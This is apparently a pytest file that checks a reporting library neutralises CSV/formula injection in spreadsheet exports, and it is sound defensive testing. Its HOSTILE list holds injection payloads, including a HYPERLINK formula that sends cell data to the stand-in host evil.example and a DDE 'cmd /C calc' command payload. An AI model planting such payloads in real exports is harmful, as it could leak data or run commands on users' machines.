"""Exports are safe to open in a spreadsheet (OWASP CSV injection) and carry no PII."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from insight.report.safe import (
    FORMULA_PREFIXES,
    neutralise_cell,
    neutralise_frame,
    write_csv_safe,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_leading_quote(value: str) -> None:
    out = neutralise_cell(value)
    assert out == "'" + value
    assert out[0] not in FORMULA_PREFIXES


@pytest.mark.parametrize("value", ["hello", "", "a=b", "x-y", "3 + 4", "-3.5", "+2", "-0.25"])
def test_ordinary_text_and_plain_numbers_are_kept(value: str) -> None:
    assert neutralise_cell(value) == value


def test_non_strings_are_untouched() -> None:
    for v in (1, -2, 3.5, None, True):
        assert neutralise_cell(v) is v


def test_csv_export_opened_by_a_csv_reader_has_no_formula_cell(tmp_path: Path) -> None:
    df = pd.DataFrame(
        {
            "respondent_id": HOSTILE,
            "quote": ["ok", *HOSTILE[1:]],
            "score": [-1, 2, -3, 4, 5, 6, -7],
            "share": [-0.5, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6],
        }
    )
    path = write_csv_safe(df, tmp_path / "x.csv")
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_PREFIXES or _is_number(cell), cell
    back = pd.read_csv(path)
    # numbers stay numbers
    assert back["score"].tolist() == [-1, 2, -3, 4, 5, 6, -7]
    assert back["share"].dtype.kind == "f"
    # the text survives, behind one quote
    assert back["respondent_id"][0] == "'" + HOSTILE[0]


def test_neutralise_frame_keeps_numeric_columns_numeric() -> None:
    df = pd.DataFrame({"a": [-1.0, 2.0], "b": ["=1", "x"]})
    out = neutralise_frame(df)
    assert out["a"].dtype == df["a"].dtype
    assert out["b"].tolist() == ["'=1", "x"]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
